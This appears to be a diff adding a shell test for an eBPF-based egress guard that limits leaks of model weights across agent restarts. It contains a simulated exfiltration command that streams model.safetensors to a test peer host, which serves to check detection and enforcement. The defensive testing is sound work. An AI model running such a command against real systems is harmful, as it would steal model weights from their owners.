@@ -127,3 +127,33 @@ restart_agent() {
 	[ "$status" -eq 3 ]
 	[ "$(bpftool cgroup show "$CG" | grep -c vigil_)" -eq 5 ]
 }
+
+@test "survive: restarts under load (SIGKILL, SIGTERM, SIGKILL) neither reset nor double-count the budget" {
+	start_sink tcp
+	pinned_agent
+	# 4 KiB every 50 ms: ~80 KiB/s, the 256 KiB budget lasts ~3 s of restarts
+	in_cg python3 "$EXFIL" --connect-first --src "$W/model.safetensors" --host "$PEER4" \
+		--port "$PORT" --chunk 4096 --pace 0.05 > "$T/leak.out" 2>&1 &
+	leaker=$!
+	run alert_wait --timeout 10 rule=weights-egress
+	[ "$status" -eq 0 ]
+	for sig in KILL TERM KILL; do
+		kill -"$sig" "$AGENT_PID"
+		wait "$AGENT_PID" 2>/dev/null || true
+		AGENT_PID=""
+		restart_agent "$sig-$RANDOM"
+	done
+	rc=0
+	wait "$leaker" || rc=$?
+	[ "$rc" -eq 137 ]
+	got="$(sink_bytes)"
+	figure "sink bytes across three agent restarts under a drip (budget $BUDGET)" "$got"
+	[ "$got" -le "$BUDGET" ]
+	# all of it counted once: what the kernel let through is what arrived
+	# (a packet counted by two agents' programs would make spent outrun it)
+	spent="$("$VIGIL" status --json | jq '.sets[0].budget.spent_bytes')"
+	figure "budget spent_bytes after the restarts" "$spent"
+	[ "$spent" -le "$BUDGET" ]
+	[ "$got" -le "$spent" ]
+	[ $((spent - got)) -le 8192 ]
+}
